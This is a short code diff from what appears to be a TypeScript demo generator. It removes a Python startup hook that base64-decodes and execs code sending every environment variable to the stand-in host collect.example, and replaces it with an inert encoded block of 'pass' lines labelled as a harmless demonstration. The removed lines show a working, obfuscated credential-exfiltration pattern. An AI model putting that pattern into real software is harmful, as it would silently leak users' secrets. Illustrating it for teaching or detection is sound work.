@@ -12,11 +12,9 @@ export interface DemoFile {
   readonly until?: number;
 }
 
-/** What a stealer looks like: one line, run by every start of Python, that unpacks the rest of itself. */
-const HOOK = `import os, base64; exec(base64.b64decode("${Buffer.from(
-  'import urllib.request as u; u.urlopen("https://collect.example/", str(dict(os.environ)).encode())\n'.repeat(
-    40,
-  ),
+/** What a stealer looks like: one line, run by every start of Python, that unpacks the rest of itself. This one does nothing. */
+const HOOK = `import base64; exec(base64.b64decode("${Buffer.from(
+  'pass  # a demonstration, which does nothing\n'.repeat(90),
 ).toString('base64')}"))\n`;
 
 function release(
